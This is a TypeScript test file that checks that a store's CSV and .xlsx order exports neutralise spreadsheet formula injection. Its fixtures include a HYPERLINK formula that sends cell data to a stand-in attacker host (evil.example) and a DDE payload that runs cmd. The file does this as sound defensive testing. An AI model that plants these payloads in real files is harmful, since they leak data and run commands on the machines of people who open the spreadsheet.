/**
 * No text a merchandiser typed runs as a formula in the files the store writes (issue 35): the CSV
 * export prefixes a cell that would start a formula with `'` and leaves real numbers numeric; the
 * .xlsx holds such text as a text cell, never a `<f>`.
 */
import * as XLSX from '@e965/xlsx';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { goods } from '../../src/db/schema/index.js';
import { chinaToday } from '../../src/lib/china-day.js';
import { ORDER_EXPORT_HEADER } from '../../src/modules/erp/export.js';
import { seedGoods } from '../fixtures.js';
import { fileApp } from '../helper.js';
import { get, readyBuyer, shippedOrder } from '../ops/order-flow.js';

const app = fileApp();

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")';
const DDE = '@SUM(1+1)*cmd|" /C calc"!A0';
const column = (name: string) => ORDER_EXPORT_HEADER.indexOf(name);

async function exportOf(format: 'csv' | 'xlsx') {
  const g = await seedGoods(app);
  await app.db.update(goods).set({ commonName: HYPERLINK, approvalNo: DDE }).where(eq(goods.id, g.id));
  const b = await readyBuyer(app);
  await shippedOrder(app, b, [{ goods: g, number: 5 }]);
  const res = await get(app, b.cookie, `/api/user/orders/export?from=${chinaToday()}&to=${chinaToday()}&format=${format}`);
  expect(res.statusCode).toBe(200);
  return res.rawPayload;
}

describe('GET /api/user/orders/export: formulas in the goods’ text', () => {
  it('CSV: a cell starting with = + - @ TAB or CR is written after a quote; numbers stay numbers', async () => {
    const data = await exportOf('csv');
    const [header, row] = parse(data.subarray(3).toString('utf8')) as string[][];
    expect(header).toEqual(ORDER_EXPORT_HEADER);
    expect(row[column('通用名')]).toBe(`'${HYPERLINK}`);
    expect(row[column('批准文号')]).toBe(`'${DDE}`);
    // Nothing in the file starts a formula.
    for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(row[column('数量')]).toBe('5');
    expect(Number(row[column('单价')])).toBeGreaterThan(0);
    expect(row[column('金额')]).toMatch(/^\d+(\.\d+)?$/);
  });

  it('.xlsx: the same text is a text cell, with no formula anywhere in the sheet', async () => {
    const data = await exportOf('xlsx');
    const files = unzipSync(new Uint8Array(data));
    const sheet = Buffer.from(files['xl/worksheets/sheet1.xml']).toString('utf8');
    expect(sheet).not.toMatch(/<f[\s>]/);
    const book = XLSX.read(data, { type: 'buffer', cellFormula: true });
    const [, row] = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets[book.SheetNames[0]], { header: 1, raw: true });
    expect(row[column('通用名')]).toBe(HYPERLINK);
    expect(row[column('数量')]).toBe(5);
  });
});
